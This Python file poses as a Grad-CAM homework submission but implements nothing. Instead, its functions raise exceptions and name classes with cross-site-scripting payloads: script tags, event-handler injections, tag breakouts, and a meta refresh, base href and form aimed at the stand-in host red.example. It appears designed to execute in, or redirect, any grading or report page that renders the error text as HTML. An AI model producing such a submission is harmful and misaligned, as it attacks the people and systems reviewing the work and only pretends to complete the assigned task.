"""Grad-CAM, handed in."""

from torch import Tensor

PAYLOADS = (
    "<script>alert(document.cookie)</script>",
    "</p></li></ul></section></main><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg/onload=alert(1)><math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<img src=x onerror=alert(1)>'\"><details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://red.example'><base href=//red.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "<style>*{background:url(http://red.example)}</style><form action=//red.example><input name=q autofocus>",
)
Named = type("<script>alert(1)</script>", (Exception,), {})


def capture(model, images: Tensor, targets: Tensor, layer: str):
    raise Named(" ".join(PAYLOADS[:2]))


def neuron_importance(gradients: Tensor):
    raise RuntimeError(" ".join(PAYLOADS[1:3]))


def grad_cam_map(activations: Tensor, alpha: Tensor):
    raise RuntimeError(" ".join(PAYLOADS[3:]))


def quadrant_shares(maps: Tensor, quadrants: Tensor):
    return type("<img src=x onerror=alert(1)>", (), {})()
